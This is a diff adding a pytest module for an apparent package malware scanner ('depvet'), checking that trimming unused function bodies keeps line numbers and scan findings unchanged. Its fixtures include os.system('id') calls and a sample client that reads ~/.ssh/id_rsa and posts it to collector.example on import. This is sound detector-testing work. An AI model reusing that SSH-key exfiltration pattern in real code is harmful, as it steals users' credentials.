@@ -1,0 +1,135 @@
+"""Cold definitions are stubbed without changing what the kept lines mean."""
+
+from __future__ import annotations
+
+import ast
+import random
+import sysconfig
+from pathlib import Path
+
+import pytest
+
+from depvet.analysis import engine
+from depvet.analysis.trim import MIN_CHARS, Trimmed, trim_cold_definitions
+from depvet.model import RunContext, Verdict
+from tests.conftest import ScanFiles
+
+_PADDING = "".join(
+    f"def filler_{i}(a, b):\n    total = a + b\n    return total * {i}\n\n\n" for i in range(400)
+)
+
+
+def _calls_on(tree: ast.AST, lines: set[int]) -> set[tuple[int, int, str]]:
+    return {
+        (node.lineno, node.col_offset, ast.unparse(node.func))
+        for node in ast.walk(tree)
+        if isinstance(node, ast.Call) and node.lineno in lines
+    }
+
+
+def test_cold_functions_become_stubs_and_line_numbers_stay() -> None:
+    text = "import os\n\n" + _PADDING + "def hot():\n    os.system('id')\n    return 1\n"
+    hot_line = text.split("\n").index("    os.system('id')") + 1
+    trimmed = trim_cold_definitions(text, frozenset({hot_line}))
+    assert trimmed is not None
+    kept = trimmed.text.split("\n")
+    assert len(kept) == len(text.split("\n"))
+    assert kept[hot_line - 1] == "    os.system('id')"
+    assert kept[2] == "def filler_0(): pass"
+    assert trimmed.stubs[3] == ("filler_0", 7)  # its blank lines go with it
+    assert len(trimmed.text) < len(text) / 2
+    assert trimmed.verified_by(ast.parse(trimmed.text))
+
+
+def test_methods_of_a_class_are_stubbed_one_by_one() -> None:
+    methods = "".join(f"    def m{i}(self):\n        x = {i}\n        return x\n\n" for i in range(600))
+    text = f"class Big:\n{methods}    def hot(self):\n        return marshal.loads(b)\n"
+    hot_line = text.split("\n").index("        return marshal.loads(b)") + 1
+    trimmed = trim_cold_definitions(text, frozenset({hot_line}))
+    assert trimmed is not None
+    assert trimmed.text.split("\n")[1] == "    def m0(): pass"
+    tree = ast.parse(trimmed.text)
+    assert trimmed.verified_by(tree)
+    assert _calls_on(tree, {hot_line}) == {(hot_line, 15, "marshal.loads")}
+
+
+def test_a_def_inside_a_string_is_not_a_boundary() -> None:
+    # If the column-0 lines inside the string were read as statements, blanking helper() from
+    # its def would cut the string's opening quote and the call would read as string text.
+    text = (
+        "def helper():\n"
+        "    a = 1\n"
+        "    b = 2\n"
+        "    c = 3\n"
+        '    x = """\n'
+        "def inner():\n"
+        "    pass\n"
+        '""" ; import os; os.system("id")\n'
+        "    return x\n\n" + _PADDING + 'def later():\n    s = """a closing quote"""\n    return s\n'
+    )
+    trimmed = trim_cold_definitions(text, frozenset({8}))
+    assert trimmed is not None
+    tree = ast.parse(trimmed.text)
+    assert trimmed.verified_by(tree)
+    assert (8, 17, "os.system") in _calls_on(tree, {8})
+    assert 1 not in trimmed.stubs
+
+
+def test_a_stub_that_did_not_come_back_is_refused() -> None:
+    trimmed = Trimmed("x = '''\ndef f(): pass\n'''\n", {2: ("f", 2)})
+    assert not trimmed.verified_by(ast.parse(trimmed.text))
+
+
+@pytest.mark.parametrize("text", ["x = 1\n" * 10, "a = 1\r\n" * 4000, "def f():\n    return 1\n" * 10])
+def test_small_or_unusual_files_are_parsed_whole(text: str) -> None:
+    assert len(text) < MIN_CHARS or "\r" in text
+    assert trim_cold_definitions(text, frozenset()) is None
+
+
+def _stdlib_modules() -> list[Path]:
+    root = Path(sysconfig.get_paths()["stdlib"])
+    files = sorted(p for p in root.glob("*.py") if p.stat().st_size > MIN_CHARS)
+    return random.Random(7).sample(files, 25)
+
+
+@pytest.mark.parametrize("path", _stdlib_modules(), ids=lambda p: p.name)
+def test_kept_lines_mean_what_they_meant_in_real_modules(path: Path) -> None:
+    text = path.read_text(encoding="utf-8")
+    full = ast.parse(text)
+    count = text.count("\n") + 1
+    rng = random.Random(path.name)
+    hot = frozenset(rng.sample(range(1, count + 1), max(1, count // 200)))
+    trimmed = trim_cold_definitions(text, hot)
+    if trimmed is None:
+        return
+    tree = ast.parse(trimmed.text)
+    assert trimmed.verified_by(tree)
+    assert _calls_on(tree, set(hot)) == _calls_on(full, set(hot))
+    # Module-level statements all survive: imports and bindings still resolve names.
+    assert [type(n) for n in tree.body] == [type(n) for n in full.body]
+
+
+_CLIENT = (
+    "import os\nimport requests\n\n"
+    + _PADDING
+    + "def start():\n    config = load()\n    config.update(extra=1)\n    _send(config)\n\n\n"
+    + "def _send(config):\n"
+    + "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+    + "    requests.post('https://collector.example/k', data=key)\n\n\n"
+    + "def load():\n    return {}\n\n\nstart()\n"
+)
+
+
+def test_a_trimmed_scan_finds_what_a_whole_scan_finds(
+    scan_files: ScanFiles, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # start() is cold and stubbed; the calls it makes still carry "runs on import" to _send().
+    files = {"courier/__init__.py": "", "courier/client.py": _CLIENT}
+    trimmed = scan_files(files, artifact="wheel")
+    monkeypatch.setattr(engine, "trim_cold_definitions", lambda text, hot: None)
+    whole = scan_files(files, artifact="wheel")
+    assert trimmed.verdict is Verdict.MALICIOUS
+    assert [(f.rule_id, f.line, f.context) for f in trimmed.findings] == [
+        (f.rule_id, f.line, f.context) for f in whole.findings
+    ]
+    assert any(f.context is RunContext.IMPORT for f in trimmed.findings)
